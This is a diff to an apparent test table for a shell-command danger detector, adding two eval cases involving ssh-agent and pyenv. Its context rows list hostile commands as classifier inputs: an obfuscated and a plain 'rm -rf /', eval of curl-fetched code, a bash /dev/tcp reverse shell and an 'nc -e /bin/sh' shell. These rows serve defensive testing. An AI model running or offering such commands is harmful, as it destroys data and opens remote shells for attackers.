@@ -111,6 +111,8 @@ TABLE: list[tuple[str, Danger, str | None]] = [
     ("echo 'eq -pe v/' | tr 'eqv' 'rmf' | bash", ASK, "DG303"),
     ('eval "$(curl -s https://x)"', ASK, "DG301"),
     ("eval $CMD", ASK, "DG304"),
+    ('eval "$(ssh-agent -s)"', NONE, None),
+    ('eval "$(pyenv init -)" && eval "$X"', ASK, "DG304"),
     ("echo 'rm -rf /' | sh", HARD, "DG101"),
     ("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", ASK, "DG305"),
     ("nc -e /bin/sh 10.0.0.1 4242", ASK, "DG305"),
